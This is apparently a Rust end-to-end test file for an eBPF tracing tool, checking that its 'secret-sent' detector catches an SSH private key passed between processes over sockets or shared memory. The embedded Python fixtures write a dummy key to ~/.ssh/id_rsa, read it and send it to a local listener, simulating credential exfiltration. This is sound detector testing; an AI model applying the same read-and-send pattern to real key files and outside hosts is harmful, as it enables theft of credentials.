//! Data that are followed from process to process: over sockets between them, and by their contents.
//!
//! Each program has two processes. One reads a key, the other has a connection out; what passes between them, and when, differs.

use crate::Case;
use anyhow::{Context, Result, ensure};
use e2e::{binary, output, record, stdout};
use serde_json::Value;
use std::process::Command;

pub fn cases(no_ebpf: &Option<String>) -> Vec<Case> {
    vec![
        Case { name: "flow::over_a_unix_socket", skip: no_ebpf.clone(), run: || both(UNIX, &[]) },
        Case { name: "flow::over_loopback", skip: no_ebpf.clone(), run: || both(LOOPBACK, &[]) },
        Case { name: "flow::by_content", skip: no_ebpf.clone(), run: || both(CONTENT, &["--payload", "read,sendto"]) },
        Case {
            name: "flow::not_by_content_without_payloads",
            skip: no_ebpf.clone(),
            run: || quiet(CONTENT, "fires", &[]),
        },
    ]
}

/// What all begin with: a key, a listener to whom it must not go, and `leave` by which it goes there.
const BEGIN: &str = r#"
import mmap, os, socket, sys, time
home = os.environ["HOME"]
os.makedirs(home + "/.ssh")
with open(home + "/.ssh/id_rsa", "w") as file: file.write("key" * 50)
outside = socket.create_server(("127.0.0.1", 0))
def key():
    fd = os.open(home + "/.ssh/id_rsa", os.O_RDONLY)
    return os.read(fd, 4096)
def leave(data):
    client = socket.create_connection(outside.getsockname())
    client.sendall(data)
    os._exit(0)
fires = sys.argv[1] == "fires"
"#;

/// The reader is the client. What it sends before it has read the key is no key.
const UNIX: &str = r#"
server = socket.socket(socket.AF_UNIX); server.bind(home + "/sock"); server.listen()
if os.fork() == 0:
    connection, _ = server.accept()
    leave(connection.recv(1000))
client = socket.socket(socket.AF_UNIX); client.connect(home + "/sock")
data = key() if fires else b"hello, how are you"
client.sendall(data)
os.wait()
key()
"#;

/// The reader is the server.
const LOOPBACK: &str = r#"
server = socket.create_server(("127.0.0.1", 0))
if os.fork() == 0:
    client = socket.create_connection(server.getsockname())
    leave(client.recv(1000))
connection, _ = server.accept()
data = key() if fires else b"hello, how are you"
connection.sendall(data)
os.wait()
key()
"#;

/// What passes through memory that both have is seen by no call.
const CONTENT: &str = r#"
shared = mmap.mmap(-1, 4096)
if os.fork() == 0:
    while shared[4000:4001] != b"1": time.sleep(0.01)
    leave(shared[:150] if fires else b"x" * 150)
shared[:150] = key()
shared[4000:4001] = b"1"
os.wait()
"#;

/// What `secret-sent` tells of a program.
fn found(program: &str, how: &str, options: &[&str]) -> Result<Vec<Value>> {
    let dir = tempfile::tempdir()?;
    let trace = dir.path().join("flow.trace");
    let mut recorder = record()?;
    recorder.args(["run", "--quiet", "-o"]).arg(&trace).args(options).args(["--", "/usr/bin/python3", "-c"]);
    stdout(recorder.arg(format!("{BEGIN}{program}")).arg(how).env("HOME", dir.path()))?;
    let mut ask = Command::new(binary("analyze")?);
    ask.arg("suspicious").arg(&trace).args(["--only", "secret-sent", "--format", "json"]);
    let told: Value = serde_json::from_slice(&output(&mut ask)?.stdout)?;
    Ok(told["findings"].as_array().context("no findings")?.clone())
}

fn quiet(program: &str, how: &str, options: &[&str]) -> Result<()> {
    let findings = found(program, how, options)?;
    ensure!(findings.is_empty(), "{how}: {findings:?}");
    Ok(())
}

fn both(program: &str, options: &[&str]) -> Result<()> {
    let findings = found(program, "fires", options)?;
    let told = |one: &Value| {
        let story = one["story"].as_str().unwrap_or_default().to_owned();
        story.contains("id_rsa") && story.contains("127.0.0.1")
    };
    ensure!(findings.iter().any(told), "fires: {findings:?}");
    quiet(program, "quiet", options)
}
